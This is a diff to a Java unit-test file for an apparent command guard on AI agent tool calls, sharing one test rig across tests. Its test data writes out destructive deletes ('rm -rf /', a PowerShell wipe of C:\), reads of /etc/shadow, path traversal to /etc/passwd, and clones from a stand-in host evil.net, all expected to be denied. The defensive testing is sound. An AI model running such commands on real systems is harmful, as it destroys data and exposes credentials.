@@ -22,7 +22,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 class ToolsTest {
     private static final int ROUNDS = Integer.getInteger("hotplex.guard.rounds", 500);
 
-    private final GuardRig rig = new GuardRig();
+    /** One for all tests: it takes a while to try the rules on their examples. */
+    private static final GuardRig RIG = new GuardRig();
 
     @ParameterizedTest
     @ValueSource(
@@ -59,7 +60,7 @@ class ToolsTest {
                 "python3 <<EOF\nimport os\nos.system('rm -rf /')\nEOF",
             })
     void commandsAreSeenWhereverTheyStand(String command) {
-        assertThat(rig.command(command).action()).as(rig.rule(command)).isEqualTo(Action.DENY);
+        assertThat(RIG.command(command).action()).as(RIG.rule(command)).isEqualTo(Action.DENY);
     }
 
     @ParameterizedTest
@@ -78,34 +79,34 @@ class ToolsTest {
                 "rm -rf $BUILD/out",
             })
     void wordsAreNoCommands(String command) {
-        assertThat(rig.rule(command)).isEqualTo("NONE");
+        assertThat(RIG.rule(command)).isEqualTo("NONE");
     }
 
     @Test
     void filesThatToolsNameAreJudgedByWhereTheyLead() {
-        assertThat(rig.tool("Read", ToolKind.READ, Map.of("file_path", "/etc/shadow"))
+        assertThat(RIG.tool("Read", ToolKind.READ, Map.of("file_path", "/etc/shadow"))
                         .action())
                 .isEqualTo(Action.DENY);
-        assertThat(rig.tool("Write", ToolKind.EDIT, Map.of("file_path", "src/../../../../etc/passwd", "content", "x"))
+        assertThat(RIG.tool("Write", ToolKind.EDIT, Map.of("file_path", "src/../../../../etc/passwd", "content", "x"))
                         .action())
                 .isEqualTo(Action.DENY);
-        assertThat(rig.tool("Write", ToolKind.EDIT, Map.of("file_path", "src/main.c", "content", "rm -rf /"))
+        assertThat(RIG.tool("Write", ToolKind.EDIT, Map.of("file_path", "src/main.c", "content", "rm -rf /"))
                         .action())
                 .isEqualTo(Action.NONE);
-        assertThat(rig.tool("mcp__files__save", ToolKind.OTHER, Map.of("path", "~/.bashrc", "content", "x"))
+        assertThat(RIG.tool("mcp__files__save", ToolKind.OTHER, Map.of("path", "~/.bashrc", "content", "x"))
                         .action())
                 .isEqualTo(Action.DENY);
     }
 
     @Test
     void aToolThatNobodyKnowsIsJudgedByItsFields() {
-        assertThat(rig.tool("mcp__host__run", ToolKind.OTHER, Map.of("args", Map.of("cmd", "rm -rf /")))
+        assertThat(RIG.tool("mcp__host__run", ToolKind.OTHER, Map.of("args", Map.of("cmd", "rm -rf /")))
                         .action())
                 .isEqualTo(Action.DENY);
-        assertThat(rig.tool("shell", ToolKind.OTHER, Map.of("command", List.of("bash", "-lc", "rm -rf ~")))
+        assertThat(RIG.tool("shell", ToolKind.OTHER, Map.of("command", List.of("bash", "-lc", "rm -rf ~")))
                         .action())
                 .isEqualTo(Action.DENY);
-        assertThat(rig.tool("PowerShell", ToolKind.EXECUTE, Map.of("command", "Get-ChildItem | rm C:\\ -r -fo"))
+        assertThat(RIG.tool("PowerShell", ToolKind.EXECUTE, Map.of("command", "Get-ChildItem | rm C:\\ -r -fo"))
                         .action())
                 .isEqualTo(Action.DENY);
     }
@@ -189,7 +190,7 @@ class ToolsTest {
             assertThat(listed.command("git clone https://evil.net/x").action()).isEqualTo(Action.DENY);
             assertThat(listed.command("ssh me@evil.net ls").action()).isEqualTo(Action.DENY);
         }
-        assertThat(fetch(rig, "https://anywhere.example/")).isEqualTo(Action.NONE);
+        assertThat(fetch(RIG, "https://anywhere.example/")).isEqualTo(Action.NONE);
     }
 
     private static Action fetch(GuardRig rig, String url) {
@@ -198,9 +199,9 @@ class ToolsTest {
 
     @Test
     void whatIsTooMuchToReadIsAskedAbout() {
-        assertThat(rig.rule("echo " + "x".repeat(300_000))).isEqualTo("ASK unreadable-command");
-        assertThat(rig.rule("eval ".repeat(40) + "ls")).isEqualTo("ASK unreadable-command");
-        assertThat(rig.rule("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}"))
+        assertThat(RIG.rule("echo " + "x".repeat(300_000))).isEqualTo("ASK unreadable-command");
+        assertThat(RIG.rule("eval ".repeat(40) + "ls")).isEqualTo("ASK unreadable-command");
+        assertThat(RIG.rule("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}"))
                 .isEqualTo("ASK unreadable-command");
     }
 
@@ -214,9 +215,9 @@ class ToolsTest {
             for (int length = random.nextInt(60); length > 0; length--) {
                 text.append(alphabet.charAt(random.nextInt(alphabet.length())));
             }
-            Verdict verdict = rig.command(text.toString());
+            Verdict verdict = RIG.command(text.toString());
             assertThat(verdict).as("seed %d: %s", seed, text).isNotNull();
-            assertThat(rig.tool("PowerShell", ToolKind.EXECUTE, Map.of("command", text.toString())))
+            assertThat(RIG.tool("PowerShell", ToolKind.EXECUTE, Map.of("command", text.toString())))
                     .as("seed %d: %s", seed, text)
                     .isNotNull();
         }
